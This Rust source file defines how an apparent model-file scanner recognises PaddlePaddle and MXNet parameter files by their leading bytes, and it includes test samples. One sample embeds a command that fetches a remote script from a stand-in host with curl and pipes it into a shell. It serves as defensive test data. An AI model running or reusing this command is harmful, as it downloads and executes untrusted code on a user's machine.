//! Parameters of PaddlePaddle and MXNet: tensors behind a small header. Nothing in them runs.

use crate::format::{Claim, Format, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "paddle_mxnet",
    title: "PaddlePaddle or MXNet parameters",
    family: "paddle",
    wants,
    read: search,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    // NDArray lists of MXNet: 0x112. Parameters of Paddle begin with zeros: version and level.
    let mxnet = probe.starts(&[0x12, 1, 0, 0, 0, 0, 0, 0]);
    let paddle = probe.starts(&[0; 16]) && probe.has_at(20, &[0x08]) && probe.size() > 64;
    if mxnet { Some(Claim::Magic) } else { paddle.then_some(Claim::Structure) }
}

#[cfg(test)]
pub(crate) mod tests {
    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"\x12\x01\0\0\0\0\0\0\x01\0".to_vec(),
            b"\x12\x01\0\0\0\0\0\0os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn only_its_texts_matter() {
        crate::registry::raw::tests::only_texts_matter(&samples());
    }
}
